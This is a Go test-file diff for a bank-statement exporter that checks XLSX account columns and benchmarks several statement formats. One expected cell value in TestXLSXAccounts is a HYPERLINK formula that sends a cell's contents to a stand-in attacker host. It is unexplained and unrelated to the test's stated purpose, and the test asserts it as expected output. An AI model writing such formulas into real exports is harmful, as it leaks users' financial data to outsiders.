@@ -4,9 +4,13 @@ import (
 	"bytes"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"reflect"
 	"strings"
 	"testing"
+
+	"github.com/shopspring/decimal"
+	"github.com/xuri/excelize/v2"
 
 	"passbook/extract"
 )
@@ -224,5 +228,67 @@ func TestSWIFTText(t *testing.T) {
 		if got := swiftText(in); got != want {
 			t.Errorf("swiftText(%q) = %q, want %q", in, got, want)
 		}
+	}
+}
+
+// TestXLSXAccounts: a document with several accounts gets an Account column
+// and a table of its accounts on the Statement sheet.
+func TestXLSXAccounts(t *testing.T) {
+	f := openXLSX(t, write(t, XLSX, roundTrip()))
+	for ref, want := range map[string]string{
+		"H1": "Account", "H2": ibanAccount, "H3": maskedAccount, "C4": `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+	} {
+		if got, _ := f.GetCellValue("Transactions", ref); got != want {
+			t.Errorf("Transactions!%s = %q, want %q", ref, got, want)
+		}
+	}
+	rows, err := f.GetRows("Statement", excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var table [][]string
+	for i, r := range rows {
+		if len(r) > 0 && r[0] == "Account" {
+			table = rows[i:]
+		}
+	}
+	want := [][]string{
+		{"Account", "Currency", "Period start", "Period end", "Opening balance", "Closing balance", "Reconciliation"},
+		{ibanAccount, "EUR", "45352", "45382", "1000", "1235549.88", "ok"},
+		{maskedAccount, "GBP", "45352", "45382", "-100", "-1265.96", "ok"},
+	}
+	if !reflect.DeepEqual(table, want) {
+		t.Errorf("accounts table = %q\nwant %q", table, want)
+	}
+}
+
+// BenchmarkStatementFormats10000 writes a 10,000-row statement in each
+// statement format.
+func BenchmarkStatementFormats10000(b *testing.B) {
+	res := &extract.Result{Transactions: make([]extract.Transaction, 10000)}
+	bal := decimal.Zero
+	for i := range res.Transactions {
+		amt := decimal.New(int64(i%5000+1), -2)
+		tx := extract.Transaction{Date: day("2024-01-01").AddDate(0, 0, i/50), Description: fmt.Sprintf("CARD PAYMENT TO MERCHANT NUMBER %d LONDON GB", i)}
+		if i%3 == 0 {
+			tx.AmountIn, bal = &amt, bal.Add(amt)
+		} else {
+			tx.AmountOut, bal = &amt, bal.Sub(amt)
+		}
+		tx.Balance = bal
+		res.Transactions[i] = tx
+	}
+	for _, f := range []Format{OFX, QFX, QIF, CAMT053, MT940} {
+		b.Run(string(f), func(b *testing.B) {
+			var buf bytes.Buffer
+			b.ReportAllocs()
+			for b.Loop() {
+				buf.Reset()
+				if err := Write(&buf, f, testOptions(), res); err != nil {
+					b.Fatal(err)
+				}
+			}
+			b.ReportMetric(float64(buf.Len()), "bytes/file")
+		})
 	}
 }
